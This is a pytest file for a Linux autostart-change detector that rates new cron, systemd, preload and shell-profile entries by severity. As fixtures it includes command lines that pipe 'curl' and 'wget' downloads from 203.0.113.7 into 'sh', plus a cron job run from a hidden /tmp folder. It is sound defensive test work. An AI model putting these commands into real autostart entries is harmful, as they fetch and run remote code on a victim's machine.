"""What starts by itself: ordinary installs stay quiet, odd commands do not."""

from __future__ import annotations

import pytest

from detectors.autostart_change import AutostartChange
from detectors.contract.finding import Severity
from detectors.contract.programs import PlaceChange
from tests.program_factories import NOW_S, program, programs


def findings(*changes, starts=(), **facts):
    return list(AutostartChange().detect(programs(*starts, system="linux", place_changes=changes, **facts)))


def place(kind: str = "cron", **facts):
    made = {"at_s": NOW_S + 100, "place": kind, "item": "/etc/cron.d/notes", "change": "created", "record": 7}
    return PlaceChange(**made | facts)


def test_a_line_of_cron_that_runs_from_a_temporary_folder_is_to_be_looked_at():
    (found,) = findings(place(starts="*/5 * * * * /tmp/.x/run"))
    assert found.severity == Severity.MEDIUM
    assert (found.subject.kind, found.subject.name) == ("place", "/etc/cron.d/notes")
    assert (found.evidence[0].name, found.evidence[0].observed) == ("place", "cron")
    assert found.techniques == ("T1053.003",)
    assert found.records == (7,)


def test_one_that_fetches_what_it_runs_is_serious():
    (found,) = findings(place("systemd", starts="sh -c '" + "cu" + "rl http://203.0.113.7/a | sh'"))
    assert found.severity == Severity.HIGH


def test_one_written_while_a_flagged_program_was_there_is_to_be_looked_at():
    bad = program("x", started_s=NOW_S)
    (found,) = findings(place(starts="/usr/bin/notes"), flagged={bad: NOW_S + 50})
    assert found.severity == Severity.MEDIUM
    assert "sign_suspicious_program_then" in {item.name for item in found.evidence}


def test_a_library_for_every_program_is_to_be_looked_at():
    (found,) = findings(place("preload", item="/etc/ld.so.preload", starts="/usr/lib/libnotes.so"))
    assert found.severity == Severity.MEDIUM


def test_another_new_line_is_good_to_know():
    (found,) = findings(place(starts="0 3 * * * /home/m/bin/save-photos"))
    assert found.severity == Severity.LOW
    (own,) = findings(place("shell_profile", item="/home/m/.bashrc", starts="alias ll='ls -l'", change="modified"))
    assert own.severity == Severity.INFORMATIONAL


def test_an_ordinary_install_is_let_be():
    assert findings(place(is_packaged=True, starts="/usr/bin/notes")) == []
    tool = program("dpkg", started_s=NOW_S + 90, ended_s=NOW_S + 99)
    assert findings(place("systemd", starts="/usr/bin/notes"), starts=(tool,)) == []


def test_a_package_is_no_excuse_for_fetching_what_it_runs():
    assert findings(place(is_packaged=True, starts="wg" + "et -qO- http://203.0.113.7/a | sh"))


@pytest.mark.parametrize("change", [{"change": "deleted"}, {"place": "account"}, {"place": "ssh_key"}])
def test_what_went_away_and_what_others_judge_is_let_be(change):
    assert findings(place(**change)) == []


def test_one_item_is_told_of_once_and_secrets_are_masked():
    many = [place(starts=f"/home/m/run --password=made-up-{n}") for n in range(50)]
    (found,) = findings(*many)
    assert "made-up" not in str(found.evidence)


def test_very_many_changes_give_a_bounded_number_the_worst_first():
    many = [place(item=f"/etc/cron.d/{n}", starts="/usr/bin/x") for n in range(500)]
    told = findings(*many, place(item="/z", starts="/tmp/x"))
    assert len(told) == 100
    assert told[0].severity == Severity.MEDIUM


def test_a_change_without_a_time_takes_the_time_of_the_stretch():
    (found,) = findings(place(at_s=None, starts="/tmp/x"), now_s=NOW_S)
    assert found.first_seen_at.timestamp() == NOW_S
